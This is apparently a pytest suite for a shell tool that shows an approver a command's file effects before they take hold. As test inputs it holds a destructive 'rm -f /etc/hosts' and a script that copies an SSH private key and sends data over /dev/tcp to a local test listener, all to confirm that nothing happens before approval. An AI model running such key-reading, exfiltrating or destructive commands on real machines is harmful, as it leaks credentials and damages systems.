"""A tool whose approver sees the effects of a command before it approves them."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from anyshell import AnyshellError, Approved, Environment, Policy, Reach, Refused, ShellTool, approve_all

assert sys.platform == "linux"  # else mypy checks the code below on every platform

from anyshell.types import CommandRequest

from .conftest import bubblewrap, framework
from .test_trial import layers

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from anyshell import ApprovalRequest

pytestmark = pytest.mark.anyio


@pytest.fixture
async def env(tmp_path: Path, anyio_backend: str) -> AsyncIterator[Environment]:
    bubblewrap()
    (tmp_path / "tree").mkdir()
    (tmp_path / "tree" / "a").write_text("a\n")
    async with Environment.detect(cwd=tmp_path / "tree") as environment:
        yield environment


class Person:
    """An approver that records its requests, and runs a command before it answers."""

    def __init__(self, answer: Approved | Refused, meanwhile: str = "") -> None:
        self.answer, self.meanwhile = answer, meanwhile
        self.asked: list[CommandRequest] = []

    async def __call__(self, request: ApprovalRequest) -> Approved | Refused:
        assert isinstance(request, CommandRequest)
        self.asked.append(request)
        if self.meanwhile:
            Path(self.meanwhile).write_text("theirs\n")
        return self.answer


async def test_approved_effects_become_real(env: Environment) -> None:
    person = Person(Approved())
    tool = ShellTool(env, approver=person, approve="effects")
    result = await tool({"command": "echo more >> a; echo new > b; echo printed"})
    assert "printed" in result.text
    assert not result.is_error
    (request,) = person.asked
    assert request.effects is not None
    assert [each.path for each in request.effects.created] == ["b"]
    assert "nothing is real yet" in request.display
    assert "  | +more" in request.display
    assert "  + b" in request.display
    assert Path(env.directory, "a").read_text() == "a\nmore\n"
    assert Path(env.directory, "b").read_text() == "new\n"


async def test_refused_effects_change_nothing(env: Environment) -> None:
    person = Person(Refused("not that"))
    tool = ShellTool(env, approver=person, approve="effects")
    result = await tool({"command": "echo more >> a; rm -f /etc/hosts; touch ~/.touched"})
    assert result.details.status == "refused"
    assert "not that" in result.text
    assert Path(env.directory, "a").read_text() == "a\n"
    assert Path("/etc/hosts").exists()
    assert not Path("~/.touched").expanduser().exists()


async def test_nothing_is_sent_and_no_secret_is_read_before_the_answer(
    env: Environment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".ssh").mkdir()
    (tmp_path / ".ssh" / "id_ed25519").write_text("SECRET\n")
    heard: asyncio.Queue[bytes] = asyncio.Queue()

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.put_nowait(await reader.read())
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    script = f"cat ~/.ssh/id_ed25519 > found; exec 3<>/dev/tcp/127.0.0.1/{port} && echo sent >&3; echo over"
    async with server:
        for reach in (None, Reach.preset("workspace"), Reach(write=(".",), network=True)):
            person = Person(Refused("no"))
            async with Environment.detect(cwd=env.directory, shell="bash", reach=reach) as confined:
                await ShellTool(confined, approver=person, approve="effects")({"command": script})
            (request,) = person.asked
            assert request.effects is not None
            assert [(each.path, each.size) for each in request.effects.created] == [("found", 0)]
        assert heard.empty()
        async with Environment.detect(cwd=env.directory, shell="bash") as free:
            await free.run(script)
        assert Path(env.directory, "found").read_text() == "SECRET\n"
        assert await heard.get() == b"sent\n"


async def test_change_during_the_approval_is_a_conflict(env: Environment) -> None:
    person = Person(Approved(), meanwhile=f"{env.directory}/a")
    tool = ShellTool(env, approver=person, approve="effects")
    result = await tool({"command": "echo more >> a; echo new > b"})
    assert result.details.status == "failed"
    assert "nothing was committed: a" in result.text
    assert Path(env.directory, "a").read_text() == "theirs\n"
    assert not Path(env.directory, "b").exists()


async def test_each_of_two_calls_is_asked_about(env: Environment) -> None:
    person = Person(Approved())
    tool = ShellTool(env, approver=person, approve="effects")
    await asyncio.gather(*(tool({"command": "mktemp -p ."}) for _ in range(2)))
    assert len(person.asked) == 2
    assert len(list(Path(env.directory).iterdir())) == 3


async def test_a_policy_decides_before_anything_runs(env: Environment, tmp_path: Path) -> None:
    framework("tree_sitter")
    rules = tmp_path / "rules.toml"
    rules.write_text('[[allow]]\nname = "t"\nprogram = ["echo"]\n[[deny]]\nname = "r"\nprogram = ["rm"]\n')
    person = Person(Approved())
    tool = ShellTool(env, approver=person, approve="effects", policy=Policy.load(rules))
    assert (await tool({"command": "echo allowed"})).output == "allowed\n"
    assert (await tool({"command": "rm a"})).details.status == "refused"
    assert Path(env.directory, "a").exists()
    assert person.asked == []
    await tool({"command": "cp a c"})
    assert [request.text for request in person.asked] == ["cp a c"]
    assert Path(env.directory, "c").exists()


async def test_a_cancelled_call_leaves_nothing(env: Environment) -> None:
    asked = asyncio.Event()

    async def never(request: ApprovalRequest) -> Approved:
        asked.set()
        await asyncio.Event().wait()
        return Approved()

    tool = ShellTool(env, approver=never, approve="effects")
    call = asyncio.create_task(tool({"command": "echo more >> a"}, call_id="one"))
    await asked.wait()
    tool.cancel("one")
    assert (await call).details.status == "cancelled"
    assert Path(env.directory, "a").read_text() == "a\n"
    assert layers() == []


async def test_jobs_are_asked_about_by_their_text(env: Environment) -> None:
    person = Person(Approved())
    tool = ShellTool(env, approver=person, approve="effects", jobs=True)
    result = await tool({"command": "echo new > b", "run_in_background": True})
    assert result.details.status in ("exited", "running"), result.text
    assert person.asked[0].effects is None


async def test_sessions_have_no_trials(env: Environment) -> None:
    with pytest.raises(AnyshellError, match="fresh shells"):
        ShellTool(env, approver=approve_all, approve="effects", session=True)
    with pytest.raises(AnyshellError, match="approve"):
        ShellTool(env, approver=approve_all, approve="nonsense")  # type: ignore[arg-type]  # the test
